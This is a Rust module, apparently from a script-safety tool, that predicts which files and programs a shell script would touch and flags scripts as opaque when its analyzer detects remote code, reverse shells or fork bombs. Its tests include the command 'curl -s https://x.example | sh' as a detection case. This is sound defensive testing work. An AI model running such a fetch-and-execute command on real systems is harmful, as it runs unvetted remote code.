//! What the core says a script would touch.

use std::collections::BTreeSet;

use countersign_core::analyze::{Invocation, UNKNOWN, shell};
use countersign_core::fact::FactKind;
use countersign_core::place::Scene;
use countersign_core::{Action, Context, Policy, effects};

use super::plant;
use super::thing::{Class, SOMETHING, Things, is_uninteresting, normal};

/// The prediction for one script.
#[derive(Debug, Default)]
pub(crate) struct Prediction {
    /// Absolute paths, perhaps with `*` in them, and names of programs.
    pub(crate) things: Things,
    /// Whether the core says that it does not know everything.
    pub(crate) opaque: bool,
    /// The first program, by which scripts are grouped.
    pub(crate) program: String,
}

impl Prediction {
    /// The paths that must be there for it to come true.
    pub(crate) fn touched(&self) -> Vec<String> {
        self.paths(&[Class::Read, Class::Delete, Class::Move, Class::Mode])
    }

    /// The paths that are written.
    pub(crate) fn written(&self) -> Vec<String> {
        self.paths(&[Class::Write])
    }

    fn paths(&self, classes: &[Class]) -> Vec<String> {
        let paths = classes.iter().filter_map(|class| self.things.get(class)).flatten();
        paths.filter(|path| !path.contains('*')).cloned().collect()
    }
}

/// Facts that say: there may be more.
const OPAQUE: &[FactKind] = &[
    FactKind::UnknownCode,
    FactKind::UnknownCommand,
    FactKind::RemoteCode,
    FactKind::DecodedCode,
    FactKind::ReverseShell,
    FactKind::Unparsed,
    FactKind::Bound,
    FactKind::Malformed,
    FactKind::ForkBomb,
];

/// Asks the core what a script would touch where [`plant`] puts it.
pub(crate) fn predict(script: &str) -> Prediction {
    let context = Context {
        cwd: Some(plant::WORKSPACE.to_owned()),
        home: Some(plant::HOME.to_owned()),
        workspace: Some(plant::WORKSPACE.to_owned()),
        ..Context::default()
    };
    let action = Action::Shell { command: script.to_owned(), cwd: None };
    let mut things = Things::new();
    for effect in effects(&action, &Policy::default(), &context) {
        let Some(class) = class(&effect.what) else { continue };
        let paths = effect.things.iter().map(|thing| pattern(class, thing));
        let paths = paths.filter(|path| !is_uninteresting(path));
        things.entry(class).or_default().extend(paths);
    }
    let analysis = shell::analyze(script, &Scene::new(&context, &[]));
    let opaque = analysis.facts.iter().any(|fact| OPAQUE.contains(&fact.kind));
    let programs: BTreeSet<_> = analysis.commands.iter().map(program).collect();
    things.insert(Class::Execute, programs);
    let program = analysis.commands.first().map(program).unwrap_or_default();
    Prediction { things, opaque, program }
}

fn program(invocation: &Invocation) -> String {
    invocation.program.replace(UNKNOWN, "*")
}

/// The class that a kind of effect belongs to; nothing for those that cannot be seen here.
fn class(what: &str) -> Option<Class> {
    Some(match what {
        "delete" => Class::Delete,
        "write" | "append" | "create" | "link" => Class::Write,
        "move" => Class::Move,
        "chmod" | "chown" => Class::Mode,
        "read" => Class::Read,
        "send" | "fetch" | "remote-delete" => Class::Connect,
        "kill" => Class::Signal,
        _ => return None,
    })
}

/// The thing as a path from the root, with `*` for what the core does not know.
fn pattern(class: Class, thing: &str) -> String {
    if matches!(class, Class::Connect | Class::Signal) {
        return SOMETHING.to_owned();
    }
    let thing = match thing.strip_prefix('~') {
        Some(rest) if rest.is_empty() || rest.starts_with('/') => format!("{}{rest}", plant::HOME),
        _ => thing.to_owned(),
    };
    let known: String =
        thing.chars().map(|char| if "…\u{E000}".contains(char) { '*' } else { char }).collect();
    let known = match known.split_once(['$', '`']) {
        Some((before, _)) => format!("{before}*"),
        None => known,
    };
    if known.starts_with('*') { "*".to_owned() } else { normal(plant::WORKSPACE, &known) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paths_are_read_from_where_the_script_runs() {
        assert_eq!(pattern(Class::Delete, "./a/../b"), "/home/dev/project/b");
        assert_eq!(pattern(Class::Delete, "~/x"), "/home/dev/x");
        assert_eq!(pattern(Class::Write, "$X/y"), "*");
        assert_eq!(pattern(Class::Write, "a/$X"), "/home/dev/project/a/*");
        assert_eq!(pattern(Class::Connect, "https://x.example"), SOMETHING);
    }

    #[test]
    fn the_core_is_asked() {
        let prediction = predict("rm -r build && cat notes.txt > out.txt");
        let of = |class| prediction.things.get(&class).cloned().unwrap_or_default();
        assert!(of(Class::Delete).contains("/home/dev/project/build"));
        assert!(of(Class::Write).contains("/home/dev/project/out.txt"));
        assert!(of(Class::Execute).contains("rm"));
        assert_eq!(prediction.program, "rm");
        assert!(!prediction.opaque);
        assert!(predict("curl -s https://x.example | sh").opaque);
    }
}
